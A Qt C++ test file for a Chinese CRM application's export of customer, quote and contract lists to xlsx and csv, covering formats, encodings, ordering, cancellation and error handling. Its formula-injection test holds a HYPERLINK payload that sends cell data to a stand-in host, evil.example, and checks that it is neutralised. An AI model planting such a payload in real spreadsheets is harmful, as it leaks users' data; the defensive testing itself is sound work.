// 导出 (issue 19): the customer list as shown (filter, sort, the columns given) and the
// quote and contract lists written whole to .xlsx and .csv (UTF-8 with a BOM, GB18030) —
// the xlsx read back by unzipping it: Chinese headers, money as a number formatted
// #,##0.00, dates as date cells, the frozen header, the auto-filter; the csv's bytes; every
// row in the list's order, only the filtered ones; no formula injection; a cancelled or
// failed export leaves no file; a long cell is cut at Excel's limit.
#include "dataio/sheetwriter.h"
#include "dataio/xlsxreader.h"
#include "dataset/writer.h"
#include "models/customerlistmodel.h"
#include "models/documentlist.h"
#include "models/listexport.h"
#include "replica/replica.h"
#include "schema/database.h"
#include "schema/domainschema.h"


#include <QDir>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QTranslator>
#include <QXmlStreamReader>

#include <csignal>

#include <sys/resource.h>

using namespace Qt::StringLiterals;
using namespace Huike;

using Format = SheetWriter::Format;
using Encoding = TextEncoding::Encoding;

Q_DECLARE_METATYPE(SheetWriter::Format)
Q_DECLARE_METATYPE(TextEncoding::Encoding)


namespace {
const QString Me = u"0192b6c8-0000-7000-8000-000000000001"_s;

QByteArray unzipped(const QString &zip, const QString &member)
{
    QString error;
    return XlsxReader::zipMember(zip, member, 1 << 30, &error);
}

QByteArray fileBytes(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

// The texts of a sheet's cells, row by row (inline strings as constant-memory mode writes
// them, numbers as their <v>), and each cell's style index.
struct Sheet
{
    QList<QStringList> rows;
    QList<QList<int>> styles;
};

Sheet readSheet(const QByteArray &xml)
{
    Sheet sheet;
    QXmlStreamReader r(xml);
    int column = 0;
    while (r.readNextStartElement() || !r.atEnd()) {
        if (!r.isStartElement())
            continue;
        if (r.name() == u"row") {
            sheet.rows.append(QStringList());
            sheet.styles.append(QList<int>());
        } else if (r.name() == u"c") {
            // The column from the reference ("C7" → 2): empty cells are not written.
            const QString ref = r.attributes().value(u"r"_s).toString();
            column = 0;
            for (const QChar ch : ref) {
                if (!ch.isLetter())
                    break;
                column = column * 26 + (ch.unicode() - u'A' + 1);
            }
            --column;
            while (sheet.rows.last().size() <= column) {
                sheet.rows.last().append(QString());
                sheet.styles.last().append(0);
            }
            sheet.styles.last()[column] = r.attributes().value(u"s"_s).toInt();
        } else if (r.name() == u"v" || r.name() == u"t") {
            sheet.rows.last()[column] = r.readElementText();
        }
    }
    return sheet;
}

// The number format of each cell style (cellXfs), by its index.
QStringList styleFormats(const QByteArray &stylesXml)
{
    const QString xml = QString::fromUtf8(stylesXml);
    QHash<int, QString> formats{{0, u"General"_s}, {14, u"m/d/yyyy"_s}};
    static const QRegularExpression numFmt(u"<numFmt numFmtId=\"(\\d+)\" formatCode=\"([^\"]*)\""_s);
    for (auto m = numFmt.globalMatch(xml); m.hasNext();) {
        const auto f = m.next();
        formats.insert(f.captured(1).toInt(), f.captured(2));
    }
    const qsizetype from = xml.indexOf(u"<cellXfs"_s);
    const QString xfs = xml.mid(from, xml.indexOf(u"</cellXfs>"_s) - from);
    QStringList out;
    static const QRegularExpression xf(u"<xf numFmtId=\"(\\d+)\""_s);
    for (auto m = xf.globalMatch(xfs); m.hasNext();)
        out << formats.value(m.next().captured(1).toInt());
    return out;
}

// The csv as lines of fields (none of the tests' values holds a comma or a line break
// unless a test says so).
QStringList csvLines(const QByteArray &bytes, Encoding encoding)
{
    QString text = TextEncoding::decode(bytes, encoding);
    if (text.endsWith(u"\r\n"_s))
        text.chop(2);
    return text.split(u"\r\n"_s);
}

} // namespace

class tst_ListExport : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void customersAsShown_data();
    void customersAsShown();
    void documents_data();
    void documents();
    void formulasStayText_data();
    void formulasStayText();
    void everyRowNotOnlyTheFetchedOnes();
    void cancelLeavesNoFile_data();
    void cancelLeavesNoFile();
    void unwritablePathIsAnError_data();
    void unwritablePathIsAnError();
    void diskFullIsAnError_data();
    void diskFullIsAnError();
    void runsInTheBackground();
    void csvQuotingAndLongCells();

private:
    QString customer(const QString &name, const QString &level, const QString &phone, const QVariant &owner,
                     const QString &lastActivity);
    QString path(const QString &name) const { return m_dir.path() + u'/' + name; }

    QTemporaryDir m_dir;
    QTranslator m_zh;
    std::unique_ptr<Replica> m_replica;
    std::unique_ptr<Database> m_big; // 2,500 generated customers
};

QString tst_ListExport::customer(const QString &name, const QString &level, const QString &phone, const QVariant &owner,
                                 const QString &lastActivity)
{
    const QString id = m_replica->create(u"customers"_s, {{u"name"_s, name}, {u"level"_s, level}, {u"phone"_s, phone},
                                                          {u"owner_id"_s, owner}, {u"status"_s, u"active"_s}})
                           .value(u"id"_s)
                           .toString();
    m_replica->database().exec(u"UPDATE customers SET last_activity_at = ? WHERE id = ?"_s, {lastActivity, id});
    return id;
}

void tst_ListExport::initTestCase()
{
    QVERIFY(m_zh.load(QStringLiteral(HUIKE_QM_FILE)));
    QCoreApplication::installTranslator(&m_zh);
    m_replica = Replica::open(path(u"replica.sqlite"_s));
    m_replica->setUserId(Me);
    Database &db = m_replica->database();
    const QString ts = u"2026-01-01T00:00:00.000Z"_s;
    db.exec(u"INSERT INTO users (id, version, deleted, created_at, updated_at, login, display_name, role, disabled) "
            u"VALUES (?, 1, 0, ?, ?, 'wangfang', '王芳', 'sales', 0)"_s,
            {Me, ts, ts});
    // Level A: three, in phone order 137…, 138…, 139…; level B: one.
    const QString hengxin = customer(u"上海恒信精密机械有限公司"_s, u"a"_s, u"13900000003"_s, Me, u"2026-03-05T02:00:00.000Z"_s);
    customer(u"杭州西湖茶业有限公司"_s, u"a"_s, u"13700000001"_s, QVariant(), u"2026-04-10T09:30:00.000Z"_s);
    customer(u"苏州园林设计院"_s, u"a"_s, u"13800000002"_s, Me, QString());
    customer(u"北京乙级客户有限公司"_s, u"b"_s, u"13600000000"_s, Me, QString());

    auto quote = [&](const QString &number, int revision, const QString &status, qint64 gross, const QString &valid,
                     const QString &created) {
        const QString id = m_replica->create(u"quotes"_s, {{u"customer_id"_s, hengxin}, {u"number"_s, number}, {u"revision"_s, revision},
                                                           {u"status"_s, status}, {u"gross_fen"_s, gross},
                                                           {u"title"_s, u"服务器与机房工程报价"_s}, {u"valid_until"_s, valid},
                                                           {u"owner_id"_s, Me}})
                               .value(u"id"_s)
                               .toString();
        db.exec(u"UPDATE quotes SET created_at = ? WHERE id = ?"_s, {created, id});
    };
    quote(u"BJ-2026-0001"_s, 1, u"draft"_s, 10001, u"2026-07-01"_s, u"2026-01-02T03:00:00.000Z"_s);
    quote(u"BJ-2026-0002"_s, 2, u"sent"_s, 123456789, u"2026-08-01"_s, u"2026-02-02T03:00:00.000Z"_s);
    quote(u"BJ-2026-0003"_s, 1, u"draft"_s, 50, u"2026-09-01"_s, u"2026-03-02T03:00:00.000Z"_s);
    for (const auto &[number, status, amount] : {std::tuple{"HT-2026-0001", "signed", 500000}, std::tuple{"HT-2026-0002", "draft", 99}}) {
        m_replica->create(u"contracts"_s, {{u"customer_id"_s, hengxin}, {u"number"_s, QString::fromLatin1(number)},
                                           {u"title"_s, u"设备采购"_s}, {u"status"_s, QString::fromLatin1(status)},
                                           {u"amount_fen"_s, amount}, {u"sign_date"_s, u"2026-01-10"_s},
                                           {u"end_date"_s, u"2026-12-31"_s}, {u"owner_id"_s, Me}});
    }

    m_big = std::make_unique<Database>(Database::openSqlite(path(u"big.sqlite"_s)));
    DomainSchema::migrator().migrate(*m_big);
    const Dataset::Generator g(2026);
    Dataset::Writer w(*m_big);
    w.writeOrganisation(g);
    w.writeCustomers(g, 0, 2500);
}

void tst_ListExport::customersAsShown_data()
{
    QTest::addColumn<Format>("format");
    QTest::addColumn<Encoding>("encoding");
    QTest::newRow("xlsx") << Format::Xlsx << Encoding::Utf8;
    QTest::newRow("csv UTF-8") << Format::Csv << Encoding::Utf8;
    QTest::newRow("csv GB18030") << Format::Csv << Encoding::Gb18030;
}

void tst_ListExport::customersAsShown()
{
    QFETCH(Format, format);
    QFETCH(Encoding, encoding);
    CustomerListModel model(m_replica->database());
    CustomerListModel::Filter filter;
    filter.level = u"a"_s;
    model.setFilter(filter);
    model.sort(CustomerListModel::Phone, Qt::AscendingOrder);
    QCOMPARE(model.rowCount(), 3);
    const QString file = path(format == Format::Xlsx ? u"customers.xlsx"_s : u"customers.csv"_s);
    ListExport exporter(model, {CustomerListModel::Name, CustomerListModel::Phone, CustomerListModel::Level,
                                CustomerListModel::Owner, CustomerListModel::LastActivity});
    const ListExport::Result result = exporter.write(file, format, encoding);
    QVERIFY2(result.ok(), qPrintable(result.error));
    QCOMPARE(result.rows, 3);
    // Readable as the user's other files are (the umask's), not only by its owner.
    {
        QFile plain(path(u"plain.txt"_s));
        QVERIFY(plain.open(QIODevice::WriteOnly));
    }
    QCOMPARE(QFile::permissions(file), QFile::permissions(path(u"plain.txt"_s)));
    const QStringList header{u"客户名称"_s, u"电话"_s, u"客户级别"_s, u"负责人"_s, u"最近联系"_s};
    const QStringList names{u"杭州西湖茶业有限公司"_s, u"苏州园林设计院"_s, u"上海恒信精密机械有限公司"_s};
    if (format == Format::Xlsx) {
        const QByteArray xml = unzipped(file, u"xl/worksheets/sheet1.xml"_s);
        QVERIFY(!xml.isEmpty());
        const Sheet sheet = readSheet(xml);
        QCOMPARE(sheet.rows.size(), 4);
        QCOMPARE(sheet.rows[0], header);
        for (int i = 0; i < 3; ++i)
            QCOMPARE(sheet.rows[i + 1].value(0), names[i]);
        QCOMPARE(sheet.rows[1].value(2), u"A 级（重点客户）"_s);
        QCOMPARE(sheet.rows[1].value(3), u"公海"_s);
        QCOMPARE(sheet.rows[3].value(3), u"王芳"_s);
        QVERIFY2(xml.contains("state=\"frozen\"") && xml.contains("ySplit=\"1\""), xml.left(2000).constData());
        QVERIFY2(xml.contains("<autoFilter ref=\"A1:E4\"/>"), xml.constData());
        // 2026-04-10 as a date cell: Excel's serial day number, styled yyyy-mm-dd.
        const QStringList formats = styleFormats(unzipped(file, u"xl/styles.xml"_s));
        QCOMPARE(sheet.rows[1].value(4), QString::number(QDate(1899, 12, 30).daysTo(QDate(2026, 4, 10))));
        QCOMPARE(formats.value(sheet.styles[1].value(4)), u"yyyy-mm-dd"_s);
        QCOMPARE(sheet.rows[2].value(4), QString()); // never contacted: empty
        QCOMPARE(unzipped(file, u"xl/workbook.xml"_s).contains("name=\"客户\""), true);
    } else {
        const QByteArray bytes = fileBytes(file);
        QCOMPARE(bytes.startsWith("\xEF\xBB\xBF"), encoding == Encoding::Utf8);
        if (encoding == Encoding::Gb18030)
            QVERIFY(bytes.contains(TextEncoding::encode(u"杭州西湖茶业有限公司"_s, Encoding::Gb18030, false)));
        const QStringList lines = csvLines(bytes, encoding);
        QCOMPARE(lines.size(), 4);
        QCOMPARE(lines[0], header.join(u','));
        QCOMPARE(lines[1], u"杭州西湖茶业有限公司,13700000001,A 级（重点客户）,公海,2026-04-10"_s);
        QCOMPARE(lines[2], u"苏州园林设计院,13800000002,A 级（重点客户）,王芳,"_s);
        QCOMPARE(lines[3], u"上海恒信精密机械有限公司,13900000003,A 级（重点客户）,王芳,2026-03-05"_s);
        QVERIFY(!bytes.contains("\n\n") && bytes.count("\r\n") == 4);
    }
}

void tst_ListExport::documents_data()
{
    QTest::addColumn<DocumentList::Kind>("kind");
    QTest::addColumn<Format>("format");
    QTest::addColumn<Encoding>("encoding");
    for (const auto kind : {DocumentList::Kind::Quotes, DocumentList::Kind::Contracts}) {
        const char *name = kind == DocumentList::Kind::Quotes ? "quotes" : "contracts";
        QTest::addRow("%s xlsx", name) << kind << Format::Xlsx << Encoding::Utf8;
        QTest::addRow("%s csv UTF-8", name) << kind << Format::Csv << Encoding::Utf8;
        QTest::addRow("%s csv GB18030", name) << kind << Format::Csv << Encoding::Gb18030;
    }
}

void tst_ListExport::documents()
{
    QFETCH(DocumentList::Kind, kind);
    QFETCH(Format, format);
    QFETCH(Encoding, encoding);
    const bool quotes = kind == DocumentList::Kind::Quotes;
    DocumentList list(kind, m_replica->database());
    // Quotes: the drafts only, the dearest first; contracts: all, by amount, smallest first.
    if (quotes) {
        list.setFilter({u"draft"_s, {}, false});
        list.sort(list.section(DocumentList::Amount), Qt::DescendingOrder);
    } else {
        list.sort(list.section(DocumentList::Amount), Qt::AscendingOrder);
    }
    QCOMPARE(list.totalCount(), 2);
    const QString file = path(format == Format::Xlsx ? u"documents.xlsx"_s : u"documents.csv"_s);
    const ListExport::Result result = ListExport(list).write(file, format, encoding);
    QVERIFY2(result.ok(), qPrintable(result.error));
    QCOMPARE(result.rows, 2);
    const int amount = list.section(DocumentList::Amount);
    const int until = list.section(DocumentList::Until);
    const QStringList numbers = quotes ? QStringList{u"BJ-2026-0001"_s, u"BJ-2026-0003"_s} : QStringList{u"HT-2026-0002"_s, u"HT-2026-0001"_s};
    const QStringList amounts = quotes ? QStringList{u"100.01"_s, u"0.50"_s} : QStringList{u"0.99"_s, u"5000.00"_s};
    if (format == Format::Xlsx) {
        const Sheet sheet = readSheet(unzipped(file, u"xl/worksheets/sheet1.xml"_s));
        const QStringList formats = styleFormats(unzipped(file, u"xl/styles.xml"_s));
        QCOMPARE(sheet.rows.size(), 3);
        QCOMPARE(sheet.rows[0].value(0), u"编号"_s);
        QCOMPARE(sheet.rows[0].value(amount), u"金额"_s);
        for (int i = 0; i < 2; ++i) {
            QCOMPARE(sheet.rows[i + 1].value(0), numbers[i]);
            QCOMPARE(sheet.rows[i + 1].value(amount).toDouble(), amounts[i].toDouble()); // a number…
            QCOMPARE(formats.value(sheet.styles[i + 1].value(amount)), u"#,##0.00"_s); // …shown with two decimals
            QCOMPARE(formats.value(sheet.styles[i + 1].value(until)), u"yyyy-mm-dd"_s);
        }
        QCOMPARE(sheet.rows[1].value(until), QString::number(QDate(1899, 12, 30).daysTo(quotes ? QDate(2026, 7, 1) : QDate(2026, 12, 31))));
    } else {
        const QStringList lines = csvLines(fileBytes(file), encoding);
        QCOMPARE(lines.size(), 3);
        QVERIFY2(lines[0].startsWith(u"编号,客户名称,"_s), qPrintable(lines[0]));
        for (int i = 0; i < 2; ++i) {
            const QStringList fields = lines[i + 1].split(u',');
            QCOMPARE(fields.value(0), numbers[i]);
            QCOMPARE(fields.value(amount), amounts[i]);
            QCOMPARE(fields.value(1), u"上海恒信精密机械有限公司"_s);
        }
        QCOMPARE(lines[1].split(u',').value(until), quotes ? u"2026-07-01"_s : u"2026-12-31"_s);
    }
}

void tst_ListExport::formulasStayText_data()
{
    QTest::addColumn<Format>("format");
    QTest::newRow("xlsx") << Format::Xlsx;
    QTest::newRow("csv") << Format::Csv;
}

void tst_ListExport::formulasStayText()
{
    // OWASP "CSV injection": a name that a spreadsheet would run.
    QFETCH(Format, format);
    const QString file = path(format == Format::Xlsx ? u"formula.xlsx"_s : u"formula.csv"_s);
    const QString evil = u"=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"_s;
    {
        SheetWriter w(file, format, Encoding::Utf8, u"公式"_s);
        QVERIFY(w.open({{u"名称"_s, SheetWriter::Type::Text}, {u"电话"_s, SheetWriter::Type::Text}, {u"金额"_s, SheetWriter::Type::Money}}));
        QVERIFY(w.addRow({evil, u"+86 139 0000 0000"_s, qint64(-1250)}));
        QVERIFY(w.addRow({u"@SUM(1+1)"_s, u"-2+3"_s, QVariant()}));
        QVERIFY(w.finish());
    }
    if (format == Format::Xlsx) {
        const QByteArray xml = unzipped(file, u"xl/worksheets/sheet1.xml"_s);
        QVERIFY(!xml.contains("<f>"));
        const Sheet sheet = readSheet(xml);
        QCOMPARE(sheet.rows[1].value(0), evil);
        QCOMPARE(sheet.rows[1].value(1), u"+86 139 0000 0000"_s);
        QCOMPARE(sheet.rows[1].value(2), u"-12.5"_s);
        QCOMPARE(sheet.rows[2].value(0), u"@SUM(1+1)"_s);
    } else {
        const QStringList lines = csvLines(fileBytes(file), Encoding::Utf8);
        QCOMPARE(lines.value(1), u"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\",'+86 139 0000 0000,-12.50"_s);
        QCOMPARE(lines.value(2), u"'@SUM(1+1),'-2+3,"_s); // money keeps its sign: a typed column
    }
}

void tst_ListExport::everyRowNotOnlyTheFetchedOnes()
{
    // 2,500 customers: the list holds a few pages; the file has every row, in its order.
    CustomerListModel model(*m_big);
    model.sort(CustomerListModel::Name, Qt::DescendingOrder);
    QCOMPARE(model.rowCount(), 2500);
    const QString file = path(u"all.csv"_s);
    qint64 reports = 0;
    const ListExport::Result result = ListExport(model, {CustomerListModel::Name}).write(file, Format::Csv, Encoding::Utf8, [&](qint64 done, qint64 total) {
        ++reports;
        return done <= total;
    });
    QVERIFY2(result.ok(), qPrintable(result.error));
    QCOMPARE(result.rows, 2500);
    QVERIFY(reports >= 2);
    const QStringList lines = csvLines(fileBytes(file), Encoding::Utf8);
    QCOMPARE(lines.size(), 2501);
    for (int row : {0, 1, 199, 200, 1234, 2499}) {
        QString name = model.data(model.index(row, CustomerListModel::Name)).toString();
        if (name.contains(u',') || name.contains(u'"'))
            name = u'"' + name.replace(u"\""_s, u"\"\""_s) + u'"';
        QCOMPARE(lines[row + 1], name);
    }
}

void tst_ListExport::cancelLeavesNoFile_data()
{
    QTest::addColumn<Format>("format");
    QTest::addColumn<bool>("existing"); // a file of that name was there before
    QTest::newRow("xlsx") << Format::Xlsx << false;
    QTest::newRow("csv") << Format::Csv << false;
    QTest::newRow("xlsx over a file") << Format::Xlsx << true;
    QTest::newRow("csv over a file") << Format::Csv << true;
}

void tst_ListExport::cancelLeavesNoFile()
{
    QFETCH(Format, format);
    QFETCH(bool, existing);
    QTemporaryDir dir;
    const QString file = dir.path() + (format == Format::Xlsx ? u"/cancel.xlsx"_s : u"/cancel.csv"_s);
    if (existing) {
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("before");
    }
    CustomerListModel model(*m_big);
    const ListExport::Result result = ListExport(model, {CustomerListModel::Name, CustomerListModel::Owner})
                                          .write(file, format, Encoding::Utf8, [](qint64, qint64) { return false; });
    QVERIFY(result.cancelled);
    QVERIFY(!result.ok());
    QVERIFY(result.error.isEmpty());
    // Nothing new in the folder, and what was there is as it was.
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden), existing ? QStringList{QFileInfo(file).fileName()} : QStringList());
    if (existing)
        QCOMPARE(fileBytes(file), "before"_ba);
}

void tst_ListExport::unwritablePathIsAnError_data()
{
    QTest::addColumn<Format>("format");
    QTest::newRow("xlsx") << Format::Xlsx;
    QTest::newRow("csv") << Format::Csv;
}

void tst_ListExport::unwritablePathIsAnError()
{
    QFETCH(Format, format);
    const QString file = path(format == Format::Xlsx ? u"no/such/folder/x.xlsx"_s : u"no/such/folder/x.csv"_s);
    CustomerListModel model(m_replica->database());
    const ListExport::Result result = ListExport(model, {CustomerListModel::Name}).write(file, format, Encoding::Utf8);
    QVERIFY(!result.ok());
    QVERIFY(!result.cancelled);
    QVERIFY2(result.error.contains(QDir::toNativeSeparators(file)), qPrintable(result.error));
    QVERIFY2(result.error.contains(u"无法写入"_s), qPrintable(result.error)); // translated
    QVERIFY(!QFile::exists(file));
}

void tst_ListExport::diskFullIsAnError_data()
{
    QTest::addColumn<Format>("format");
    QTest::newRow("xlsx") << Format::Xlsx;
    QTest::newRow("csv") << Format::Csv;
}

void tst_ListExport::diskFullIsAnError()
{
    // A full disk, as the process sees it: no file may grow past 64 KiB (RLIMIT_FSIZE; the
    // write fails with EFBIG instead of the signal). 2,500 customers need more.
    QFETCH(Format, format);
    QTemporaryDir dir;
    const QString file = dir.path() + (format == Format::Xlsx ? u"/full.xlsx"_s : u"/full.csv"_s);
    CustomerListModel model(*m_big);
    const ListExport exporter(model, {CustomerListModel::Name, CustomerListModel::Owner, CustomerListModel::Phone});
    rlimit before{};
    QVERIFY(getrlimit(RLIMIT_FSIZE, &before) == 0);
    const auto oldHandler = std::signal(SIGXFSZ, SIG_IGN);
    rlimit small = before;
    small.rlim_cur = 64 * 1024;
    QVERIFY(setrlimit(RLIMIT_FSIZE, &small) == 0);
    const ListExport::Result result = exporter.write(file, format, Encoding::Utf8);
    setrlimit(RLIMIT_FSIZE, &before);
    std::signal(SIGXFSZ, oldHandler);
    QVERIFY(!result.ok());
    QVERIFY(!result.cancelled);
    QVERIFY2(result.error.contains(QDir::toNativeSeparators(file)), qPrintable(result.error));
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden), QStringList());
}

void tst_ListExport::runsInTheBackground()
{
    CustomerListModel model(*m_big);
    ListExport exporter(model, {CustomerListModel::Name, CustomerListModel::LastActivity});
    QSignalSpy progressed(&exporter, &ListExport::progressed);
    QSignalSpy finished(&exporter, &ListExport::finished);
    const QString file = path(u"background.xlsx"_s);
    exporter.start(file, Format::Xlsx, Encoding::Utf8);
    QVERIFY(exporter.isRunning());
    QVERIFY(finished.wait(60000));
    QVERIFY(!exporter.isRunning());
    QVERIFY2(exporter.result().ok(), qPrintable(exporter.result().error));
    QCOMPARE(exporter.result().rows, 2500);
    QVERIFY(!progressed.isEmpty());
    QCOMPARE(progressed.last().at(0).toLongLong(), 2500);
    QCOMPARE(readSheet(unzipped(file, u"xl/worksheets/sheet1.xml"_s)).rows.size(), 2501);

    // Cancelled while it runs: no file.
    const QString cancelled = path(u"cancelled.xlsx"_s);
    exporter.start(cancelled, Format::Xlsx, Encoding::Utf8);
    exporter.cancel();
    QVERIFY(finished.wait(60000));
    QVERIFY(exporter.result().cancelled || exporter.result().ok()); // it may have been quicker
    QCOMPARE(QFile::exists(cancelled), exporter.result().ok());
}

void tst_ListExport::csvQuotingAndLongCells()
{
    const QString csv = path(u"quoting.csv"_s);
    const QString xlsx = path(u"long.xlsx"_s);
    const QString longText = QString(40000, u'长');
    for (const QString &file : {csv, xlsx}) {
        SheetWriter w(file, *SheetWriter::formatOf(file));
        QVERIFY(w.open({{u"文本"_s, SheetWriter::Type::Text}, {u"数量"_s, SheetWriter::Type::Integer},
                        {u"时间"_s, SheetWriter::Type::DateTime}}));
        QVERIFY(w.addRow({u"a,b \"c\"\nd"_s, qint64(42), QDateTime(QDate(2026, 11, 15), QTime(16, 42))}));
        QVERIFY(w.addRow({longText, QVariant(), QVariant()}));
        QVERIFY(w.finish());
        QCOMPARE(w.rowsWritten(), 2);
    }
    const QString text = TextEncoding::decode(fileBytes(csv), Encoding::Utf8);
    QVERIFY(text.startsWith(u"文本,数量,时间\r\n\"a,b \"\"c\"\"\nd\",42,2026-11-15 16:42\r\n"_s));
    QVERIFY(text.contains(u"\r\n"_s + QString(SheetWriter::MaxCellChars, u'长') + u",,\r\n"_s));
    const Sheet sheet = readSheet(unzipped(xlsx, u"xl/worksheets/sheet1.xml"_s));
    QCOMPARE(sheet.rows[2].value(0).size(), SheetWriter::MaxCellChars);
    QCOMPARE(sheet.rows[1].value(1), u"42"_s);
    QCOMPARE(SheetWriter::formatOf(u"x.XLSX"_s), Format::Xlsx);
    QCOMPARE(SheetWriter::formatOf(u"x.txt"_s), std::nullopt);
}

QTEST_GUILESS_MAIN(tst_ListExport)
#include "tst_listexport.moc"
